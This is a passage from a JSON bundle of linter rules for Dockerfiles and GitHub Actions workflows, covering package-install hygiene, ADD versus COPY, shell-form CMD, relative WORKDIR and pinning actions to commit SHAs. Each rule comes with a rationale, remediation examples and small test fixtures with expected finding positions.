 cache:\\n    image: ghcr.io/example/cache:2.0.0\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":47}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: docker.io/library/nginx:1.27\\n  tool:\\n    image: registry.k8s.io/pause:3.10\\n  local:\\n    image: localhost:5000/app:dev\\n","expect":[]},{"file":"Dockerfile","content":"FROM registry.example.net/base/python:3.12 AS build\\nRUN pip wheel -w /wheels .\\nFROM python:3.12-slim\\nCOPY --from=build /wheels /wheels\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":43}]},{"file":"Dockerfile","content":"ARG REGISTRY\\nFROM ${REGISTRY}/base/python:3.12\\nFROM mcr.microsoft.com/dotnet/aspnet:8.0\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: registry.example.net/ci/node:22\\n    steps:\\n      - uses: docker://registry.example.net/tools/lint:1.0.0\\n      - run: docker run --rm ghcr.io/example/tool:1.2.0 true\\n","expect":[{"line":5,"column":5,"endLine":5,"endColumn":47},{"line":7,"column":9,"endLine":7,"endColumn":61}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n","expect":[]}],"source":"policies/docker/image-untrusted-registry.yaml"}],"source":"policies/docker"},{"id":"dockerfile-hygiene","title":"Dockerfile build hygiene","description":"Docker\'s build best practices and build checks, and the CIS Docker Benchmark\'s image-build items that are about maintainability more than attack surface: package manager use, ADD versus COPY, WORKDIR, CMD and ENTRYPOINT form, deprecated instructions. Findings are low or informational; they make images smaller, reproducible and predictable rather than close a hole.","version":"0.1.0","rules":[{"id":"command-apt-install-recommends","pack":"dockerfile-hygiene","title":"apt installs recommended packages too","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"},"name":{"enum":["apt-get","apt"]},"args":{"contains":{"const":"install"}}}},"schema":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^--no-install-recommends$|Install-Recommends=(false|0)$"}}}}}},"message":"`{{subject.name}} install` without `--no-install-recommends` also pulls in every package the ones you named merely recommend, adding size and attack surface nobody asked for. Add `--no-install-recommends` and name what you need.","rationale":"Debian and Ubuntu install \\"recommended\\" packages by default, which often doubles what an `apt-get install` brings in: documentation, optional helpers, sometimes daemons. Each is more to download, scan and patch. Docker\'s best practices and the CIS Docker Benchmark (4.3, no unnecessary packages) recommend installing only what the image needs.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends python3 ca-certificates \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.3"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y python3 \\\\\\n && rm -rf /var/lib/apt/lists/*\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":49}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends python3 \\\\\\n && apt-get -o APT::Install-Recommends=false install -y git \\\\\\n && rm -rf /var/lib/apt/lists/*\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-apt-install-recommends.yaml"},{"id":"command-package-install-not-noninteractive","pack":"dockerfile-hygiene","title":"Package install would wait for a confirmation","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"allOf":[{"if":{"properties":{"name":{"enum":["apt-get","apt"]},"args":{"contains":{"enum":["install","upgrade","dist-upgrade","full-upgrade","remove","purge"]}}}},"then":{"$ref":"#/$defs/assumesYes"}},{"if":{"properties":{"name":{"enum":["yum","dnf","microdnf","tdnf"]},"args":{"contains":{"enum":["install","update","upgrade","remove","erase"]}}}},"then":{"$ref":"#/$defs/assumesYes"}},{"if":{"properties":{"name":{"const":"zypper"},"args":{"contains":{"enum":["install","in","update","up","remove","rm"]}}}},"then":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^(-n|--non-interactive|-y|--no-confirm)$"}}}}}}}],"$defs":{"assumesYes":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^(-[a-xzA-Z]*y[a-zA-Z]*|--yes|--assume-yes|-qq)$"}}}}}}}},"message":"`{{subject.name}}` is run without `-y`, so it stops to ask for confirmation, which a build cannot give: it aborts (or, with some tools, proceeds differently than expected). Add `-y` (zypper: `-n`).","rationale":"A Docker build has no terminal to answer prompts. Package managers that ask \\"Do you want to continue?\\" read end-of-file and abort the install, or the build only works while nothing new needs confirming and breaks later. Docker\'s best practices use `apt-get install -y`.","remediation":"```dockerfile\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN dnf install -y git && dnf clean all\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM fedora:40\\nRUN dnf install git\\nRUN zypper install curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":20},{"line":3,"column":1,"endLine":3,"endColumn":24}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get -qy install --no-install-recommends git \\\\\\n && rm -rf /var/lib/apt/lists/*\\nFROM opensuse/leap:15.6\\nRUN zypper -n install curl\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-package-install-not-noninteractive.yaml"},{"id":"command-package-version-not-pinned","pack":"dockerfile-hygiene","title":"Package installed without a version","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"allOf":[{"if":{"properties":{"name":{"enum":["apt-get","apt"]},"args":{"contains":{"const":"install"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[a-z0-9][a-z0-9.+-]*$","not":{"enum":["install"]}}}}}}},{"if":{"properties":{"name":{"const":"apk"},"args":{"contains":{"const":"add"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[a-z0-9][a-z0-9.+_-]*$","not":{"enum":["add"]}}}}}}},{"if":{"properties":{"name":{"enum":["pip","pip3"]},"args":{"contains":{"const":"install"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[A-Za-z0-9][A-Za-z0-9._-]*(\\\\[[A-Za-z0-9,._-]+\\\\])?$","not":{"anyOf":[{"enum":["install","pip","setuptools","wheel"]},{"pattern":"\\\\.(txt|in|whl|gz|zip|toml|cfg|py)$"}]}}}}}}},{"if":{"properties":{"name":{"enum":["npm","pnpm"]},"args":{"allOf":[{"contains":{"enum":["install","i","add"]}},{"contains":{"enum":["-g","--global"]}}]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(@[a-z0-9][a-z0-9._~-]*/)?[a-z0-9][a-z0-9._~-]*$","not":{"enum":["install","i","add"]}}}}}}}]},"message":"`{{value}}` is installed without a version, so each build may get a different one, and a rebuild to fix one thing can silently change another. Pin it (`{{value}}=1.2.3` for apt and apk, `{{value}}==1.2.3` for pip, `{{value}}@1.2.3` for npm).","rationale":"An unpinned package resolves to whatever the mirror offers at build time. Builds stop being reproducible, a rebuild for an unrelated change can pull in a new major version or a compromised release, and nobody can tell from the Dockerfile which version an image contains. Docker\'s best practices recommend version pinning; it also lets Dependabot or Renovate propose updates. This is informational: some teams deliberately take the distribution\'s current security release and rely on scanning instead.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends curl=8.5.0-2ubuntu10.6 \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN pip install --no-cache-dir requests==2.32.3\\nRUN npm install -g typescript@5.6.3\\n```\\n\\nOr install from a lock file (`pip install -r requirements.txt` with hashes, `npm ci`).","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-slim\\nRUN apt-get update && apt-get install -y --no-install-recommends git curl=7.88.1-10+deb12u8 \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN pip install --no-cache-dir flask requests==2.32.3\\nRUN npm install -g typescript\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":92},{"line":4,"column":1,"endLine":4,"endColumn":54},{"line":5,"column":1,"endLine":5,"endColumn":30}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache git=2.45.2-r0 \\"curl>8\\"\\nRUN pip install --no-cache-dir -r requirements.txt --upgrade pip\\nRUN npm install && npm install -g npm@10.9.0\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-package-version-not-pinned.yaml"},{"id":"command-run-cd","pack":"dockerfile-hygiene","title":"RUN changes directory with cd (use WORKDIR)","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"properties":{"name":{"not":{"const":"cd"}}}},"message":"`cd` in a RUN only lasts until the end of that RUN, so the next instruction silently runs somewhere else, and the Dockerfile is harder to follow. Use `WORKDIR /path` to change directory.","rationale":"Each RUN starts in the current WORKDIR; a `cd` changes directory for the rest of that one shell only. Chaining `cd` into long RUN lines hides where files are created and tempts later edits to assume the directory carried over. Docker\'s best practices recommend WORKDIR over `RUN cd \u2026 &&`. Informational: a `cd` into a temporary directory within one RUN is sometimes the clearest way.","remediation":"```dockerfile\\nWORKDIR /src/app\\nRUN make install\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#workdir"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM golang:1.23\\nCOPY . /src\\nRUN cd /src && go build -o /out/app ./cmd/app\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":46}]},{"file":"Dockerfile","content":"FROM golang:1.23\\nWORKDIR /src\\nCOPY . .\\nRUN go build -o /out/app ./cmd/app\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-run-cd.yaml"},{"id":"command-sudo","pack":"dockerfile-hygiene","title":"sudo used in a Dockerfile RUN","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"properties":{"sudo":{"const":false},"name":{"not":{"const":"sudo"}}}},"message":"`sudo {{subject.name}}` in a Dockerfile: RUN already runs as the current USER, and sudo in the image gives every process that runs as that user a way to become root. Switch with `USER root` for the steps that need it and back to the unprivileged user afterwards.","rationale":"Build steps run as whatever USER is in effect, so sudo is never needed to build; keeping it in the image means it, and a sudoers entry, are present at run time, where they turn a compromise of the application user into root. sudo also has TTY and signal-forwarding behaviour that makes it unpredictable as PID 1. Docker\'s best practices advise against installing or using sudo in images.","remediation":"```dockerfile\\nUSER root\\nRUN apt-get update && apt-get install -y --no-install-recommends ca-certificates \\\\\\n && rm -rf /var/lib/apt/lists/*\\nUSER 10001\\n```\\n\\nIf something must switch user at run time, use `gosu` or `setpriv` in the entrypoint.","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nUSER ubuntu\\nRUN sudo apt-get update \\\\\\n && sudo -E apt-get install -y --no-install-recommends curl\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":24},{"line":4,"column":2,"endLine":4,"endColumn":60}]},{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nUSER root\\nRUN apt-get update && apt-get install -y --no-install-recommends curl\\nUSER ubuntu\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-sudo.yaml"},{"id":"dockerfile-add-instead-of-copy","pack":"dockerfile-hygiene","title":"ADD used to copy local files (use COPY)","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"ADD"},"args":{"prefixItems":[{"not":{"pattern":{"$param":"specialSource"}}}]}}}}}}},"message":"This ADD in stage {{name}} copies local files; use COPY, which does only that, so nobody has to wonder whether a file will be fetched or unpacked. Write `COPY` with the same arguments.","rationale":"ADD does more than copy: it downloads URLs, clones Git repositories and unpacks local tar archives, and which of these happens depends on what the source turns out to be. COPY only copies, so the Dockerfile says exactly what it does. Docker\'s best practices and the CIS Docker Benchmark (4.9) recommend COPY for local files and ADD only for its special cases.","remediation":"```dockerfile\\nCOPY requirements.txt /app/\\nCOPY --chown=10001:10001 src/ /app/src/\\n```\\n\\nKeep ADD for unpacking a local archive (`ADD rootfs.tar.gz /`) or for a remote source with\\n`--checksum`.","references":[{"framework":"cis-docker","id":"1.6.0:4.9"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#add-or-copy"}],"params":{"specialSource":"^(https?://|git@|[a-z]+://)|\\\\.(tar|tar\\\\.gz|tgz|tar\\\\.bz2|tbz2?|tar\\\\.xz|txz|tar\\\\.zst)$"},"paramSchemas":{"specialSource":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A first source that ADD does something special with: a URL or Git reference (judged by dockerfile-add-url-without-checksum) or a local archive that ADD unpacks."}},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-slim\\nADD requirements.txt /app/\\nADD --chown=10001 src/ /app/src/\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":27},{"line":3,"column":1,"endLine":3,"endColumn":33}]},{"file":"Dockerfile","content":"FROM scratch\\nADD rootfs.tar.xz /\\nADD --checksum=sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef https://example.com/tool.tgz /tmp/\\nCOPY app /app\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-add-instead-of-copy.yaml"},{"id":"dockerfile-apt-lists-not-removed","pack":"dockerfile-hygiene","title":"apt package lists left in the image","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args","flags"],"properties":{"keyword":{"const":"RUN"},"args":{"allOf":[{"contains":{"enum":["apt-get","apt"]}},{"contains":{"const":"install"}},{"not":{"contains":{"pattern":"^/var/lib/apt/lists"}}}]},"flags":{"not":{"required":["mount"],"properties":{"mount":{"contains":{"pattern":"target=/var/(lib|cache)/apt"}}}}}}}}}}},"message":"This RUN in stage {{name}} installs with apt but leaves `/var/lib/apt/lists` in the layer, adding tens of megabytes of stale package index to the image. End the same RUN with `&& rm -rf /var/lib/apt/lists/*`, or use a cache mount.","rationale":"The package lists that `apt-get update` downloads are only needed while installing. Left in the layer, they make the image larger and record an index that is out of date by the time the image runs. Removing them in the same RUN keeps them out of every layer; deleting them in a later RUN does not. Docker\'s best practices show the pattern.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```\\n\\nor, with BuildKit, keep the lists in a cache mount:\\n`RUN --mount=type=cache,target=/var/lib/apt,sharing=locked apt-get update && apt-get install -y curl`.","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":70}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN --mount=type=cache,target=/var/lib/apt,sharing=locked \\\\\\n    apt-get update && apt-get install -y --no-install-recommends git\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-apt-lists-not-removed.yaml"},{"id":"dockerfile-apt-update-alone","pack":"dockerfile-hygiene","title":"Package index updated in a RUN of its own","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"RUN"},"args":{"allOf":[{"contains":{"enum":["apt-get","apt","apk"]}},{"contains":{"const":"update"}},{"not":{"contains":{"enum":["install","upgrade","dist-upgrade","full-upgrade","add"]}}}]}}}}}}},"message":"This RUN in stage {{name}} updates the package index without installing anything, so the layer is cached and later builds install from a stale index (old versions, or 404s). Update and install in one RUN: `RUN apt-get update && apt-get install -y \u2026 && rm -rf /var/lib/apt/lists/*`.","rationale":"Docker caches each instruction\'s layer by its text. A RUN that only runs `apt-get update` is reused as is on every later build, so an `apt-get install` in a following RUN works from whatever index was fetched the first time: it misses security updates or fails on packages the mirror has since removed. Docker\'s best practices and the CIS Docker Benchmark (4.7) ask that update instructions not be used alone.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends ca-certificates curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.7"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update\\nRUN apt-get install -y --no-install-recommends curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":19}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nFROM alpine:3.20\\nRUN apk update && apk add git\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-apt-update-alone.yaml"},{"id":"dockerfile-maintainer-deprecated","pack":"dockerfile-hygiene","title":"MAINTAINER instruction is deprecated","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"properties":{"keyword":{"not":{"const":"MAINTAINER"}}}}}}},"message":"MAINTAINER is deprecated and may be removed from Docker. Write the author as a label instead: `LABEL org.opencontainers.image.authors=\\"team@example.com\\"`.","rationale":"The MAINTAINER instruction has been deprecated since Docker 1.13 in favour of labels, which tools read in a standard way (the OCI `org.opencontainers.image.authors` annotation). BuildKit\'s MaintainerDeprecated check reports it.","remediation":"```dockerfile\\nLABEL org.opencontainers.image.authors=\\"platform-team@example.com\\"\\n```","references":[{"framework":"docker-build-check","id":"MaintainerDeprecated"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/maintainer-deprecated/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM alpine:3.20\\nMAINTAINER Jane Doe <jane@example.com>\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":11}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nLABEL org.opencontainers.image.authors=\\"jane@example.com\\"\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-maintainer-deprecated.yaml"},{"id":"dockerfile-multiple-cmd-entrypoint","pack":"dockerfile-hygiene","title":"Stage has more than one CMD, ENTRYPOINT or HEALTHCHECK","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"allOf":[{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"CMD"}}},"minContains":2}},{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"ENTRYPOINT"}}},"minContains":2}},{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"HEALTHCHECK"}}},"minContains":2}}]}}},"message":"Stage {{name}} has more than one CMD, ENTRYPOINT or HEALTHCHECK; only the last of each takes effect, so the earlier ones mislead whoever reads the file. Keep one of each.","rationale":"An image has a single CMD, ENTRYPOINT and HEALTHCHECK; each new one replaces the previous one in the same stage. Leftover instructions usually come from copy-paste or a merge and make a reader believe the container starts differently than it does. BuildKit\'s MultipleInstructionsDisallowed check reports them.","remediation":"```dockerfile\\nENTRYPOINT [\\"/app/server\\"]\\nCMD [\\"--port\\", \\"8080\\"]\\n```","references":[{"framework":"docker-build-check","id":"MultipleInstructionsDisallowed"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/multiple-instructions-disallowed/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim AS app\\nCOPY . /app\\nCMD [\\"node\\", \\"/app/server.js\\"]\\nCMD [\\"node\\", \\"/app/worker.js\\"]\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":18}]},{"file":"Dockerfile","content":"FROM node:22-slim AS build\\nCMD [\\"npm\\", \\"test\\"]\\n\\nFROM node:22-slim\\nHEALTHCHECK CMD [\\"node\\", \\"/app/health.js\\"]\\nCMD [\\"node\\", \\"/app/server.js\\"]\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-multiple-cmd-entrypoint.yaml"},{"id":"dockerfile-package-cache-kept","pack":"dockerfile-hygiene","title":"Package manager cache left in the image","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args","flags"],"properties":{"keyword":{"const":"RUN"},"args":{"anyOf":[{"allOf":[{"contains":{"const":"apk"}},{"contains":{"const":"add"}},{"not":{"contains":{"const":"--no-cache"}}}]},{"allOf":[{"contains":{"enum":["pip","pip3"]}},{"contains":{"const":"install"}},{"not":{"contains":{"const":"--no-cache-dir"}}}]}]},"flags":{"not":{"required":["mount"],"properties":{"mount":{"contains":{"pattern":"type=cache"}}}}}}}}}}},"message":"This RUN in stage {{name}} leaves apk\'s or pip\'s download cache in the layer, adding size and nothing else to the image. Add `--no-cache` (apk) or `--no-cache-dir` (pip), or use a BuildKit cache mount.","rationale":"`apk add` keeps the package index under /var/cache/apk and pip keeps every downloaded wheel under ~/.cache/pip unless told not to. In an image these are dead weight (often tens of megabytes) and go stale immediately. Docker\'s best practices recommend keeping caches out of layers, either by not writing them or by using cache mounts, which persist between builds without entering the image.","remediation":"```dockerfile\\nRUN apk add --no-cache git=2.45.2-r0\\nRUN pip install --no-cache-dir -r requirements.txt\\n# or share the cache between builds without putting it in a layer:\\nRUN --mount=type=cache,target=/root/.cache/pip pip install -r requirements.txt\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/cache/optimize/#use-cache-mounts"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#run"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-alpine\\nRUN apk add git=2.45.2-r0\\nRUN pip install -r requirements.txt\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":26},{"line":3,"column":1,"endLine":3,"endColumn":36}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM python:3.12-alpine\\nRUN apk add --no-cache git=2.45.2-r0\\nRUN pip install --no-cache-dir -r requirements.txt\\nRUN --mount=type=cache,target=/root/.cache/pip pip install -r requirements-dev.txt\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-package-cache-kept.yaml"},{"id":"dockerfile-shell-form-cmd","pack":"dockerfile-hygiene","title":"CMD or ENTRYPOINT in shell form","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["CMD","ENTRYPOINT"]}}},"then":{"properties":{"form":{"const":"json"}}}}}}},"message":"This CMD or ENTRYPOINT in stage {{name}} uses shell form, so the program runs under `/bin/sh -c` and never receives `docker stop`\'s SIGTERM: it is killed after the timeout instead of shutting down cleanly. Write it as a JSON array, e.g. `CMD [\\"node\\", \\"server.js\\"]`.","rationale":"In shell form Docker runs `/bin/sh -c \\"<command>\\"`, so the shell is PID 1 and the application a child that does not get the signals sent to the container. Graceful shutdown, connection draining and flushing of writes are skipped, and a shell must exist in the image. BuildKit\'s JSONArgsRecommended check and Docker\'s best practices recommend the exec (JSON) form.","remediation":"```dockerfile\\nENTRYPOINT [\\"/usr/local/bin/app\\"]\\nCMD [\\"--port\\", \\"8080\\"]\\n```\\n\\nIf shell features are needed, use `exec` so the program replaces the shell:\\n`CMD [\\"/bin/sh\\", \\"-c\\", \\"exec node server.js --port \\\\\\"$PORT\\\\\\"\\"]`.","references":[{"framework":"docker-build-check","id":"JSONArgsRecommended"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/json-args-recommended/"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#shell-and-exec-form"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY . /app\\nCMD node /app/server.js\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":24}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY . /app\\nENTRYPOINT [\\"node\\"]\\nCMD [\\"/app/server.js\\"]\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-shell-form-cmd.yaml"},{"id":"dockerfile-workdir-relative","pack":"dockerfile-hygiene","title":"WORKDIR is a relative path","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"const":"WORKDIR"}}},"then":{"properties":{"args":{"prefixItems":[{"pattern":"^(/|\\\\$|[A-Za-z]:[\\\\\\\\/])"}]}}}}}}},"message":"`WORKDIR {{value}}` is relative, so where it lands depends on the base image\'s working directory, which can change with an update of that image. Write an absolute path, e.g. `WORKDIR /app`.","rationale":"A relative WORKDIR is resolved against the previous working directory, which for the first one in a stage is whatever the base image set. When the base image changes its WORKDIR, files are copied and commands run somewhere else, with no change in this Dockerfile. BuildKit\'s WorkdirRelativePath check and Docker\'s best practices ask for absolute paths.","remediation":"```dockerfile\\nWORKDIR /app\\n```","references":[{"framework":"docker-build-check","id":"WorkdirRelativePath"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/workdir-relative-path/"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#workdir"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR app\\nCOPY . .\\n","expect":[{"line":2,"column":9,"endLine":2,"endColumn":12}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nARG APP_HOME=/srv/app\\nWORKDIR /app\\nWORKDIR ${APP_HOME}\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-workdir-relative.yaml"}],"source":"policies/dockerfile-hygiene"},{"id":"workflows","title":"GitHub Actions workflow security","description":"What GitHub\'s security hardening guidance, the OWASP Docker Security Cheat Sheet\'s supply-chain rule and OpenSSF Scorecard ask of GitHub Actions workflows and composite actions: actions and reusable workflows pinned to immutable commits, and the jobs that build and run containers kept from trusting what they should not.","version":"0.1.0","rules":[{"id":"action-not-pinned","pack":"workflows","title":"Action or reusable workflow not pinned to a commit SHA","severity":"medium","subject":"action-ref","when":{"properties":{"isLocal":{"const":false},"isDocker":{"const":false}},"not":{"required":["owner"],"properties":{"owner":{"enum":{"$param":"exemptOwners"}}}}},"schema":{"properties":{"isSha":{"const":true}}},"message":"`{{subject.uses}}` points at a tag or branch, which its owner (or whoever compromises the repository) can move to different code that then runs with this job\'s token and secrets. Pin the full 40-character commit SHA and keep the version in a comment, e.g. `uses: actions/checkout@<sha> # v4.2.2`.","rationale":"A tag such as `v4` or a branch such as `main` is a mutable pointer: the next run fetches whatever commit it points to at that moment, so one compromised or careless upstream release reaches every workflow that uses it, with access to its `GITHUB_TOKEN`, its secrets and the code it builds and publishes (as in the tj-actions/changed-files compromise of 2025). A full commit SHA is the only immutable reference GitHub accepts. GitHub\'s security hardening guide and the OWASP cheat sheet\'s supply-chain rule recommend pinning; OpenSSF Scorecard scores it. Teams that trust GitHub\'s own actions may exempt their owners with the `exemptOwners` parameter, e.g. `[actions, github]`.","remediation":"Replace the tag with the commit it currently resolves to and keep the tag as a comment, so that\\nDependabot or Renovate can propose updates:\\n\\n```yaml\\nsteps:\\n  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\\njobs:\\n  release:\\n    uses: example/shared-workflows/.github/workflows/release.yml@<40-hex sha> # v1.3.0\\n```\\n\\nEnable Dependabot for `package-ecosystem: github-actions` so pinned actions are kept current.","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"}],"params":{"exemptOwners":[]},"paramSchemas":{"exemptOwners":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Owners (as written in `uses:`, case-sensitive) whose actions need no SHA pin, e.g. [actions, github]. The default exempts nobody."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@v4\\n      - uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a # v4.2.0\\n      - name: Lint\\n        uses: \\"github/super-linter/slim@main\\"\\n      - uses: docker/build-push-action@11bd719\\n      - uses: ./.github/actions/setup\\n      - uses: docker://alpine:3.20\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":34},{"line":9,"column":9,"endLine":9,"endColumn":46},{"line":10,"column":9,"endLine":10,"endColumn":47}]},{"file":".github/workflows/release.yml","content":"on:\\n  push:\\n    tags: [\\"v*\\"]\\njobs:\\n  shared:\\n    uses: example/shared-workflows/.github/workflows/release.yml@v1\\n    secrets: inherit\\n  local:\\n    uses: ./.github/workflows/build.yml\\n  pinned:\\n    uses: example/shared-workflows/.github/workflows/scan.yml@0123456789abcdef0123456789abcdef01234567\\n","expect":[{"line":6,"column":5,"endLine":6,"endColumn":68}]},{"file":".github/workflows/ci.yml","content":"on: pull_request\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - uses: ./\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n      - run: npm test\\n","expect":[]},{"file":"action.yml","content":"name: Setup\\ndescription: Sets up the toolchain\\nruns:\\n  using: composite\\n  steps:\\n    - uses: actions/cache@v4\\n      with:\\n        path: ~/.npm\\n        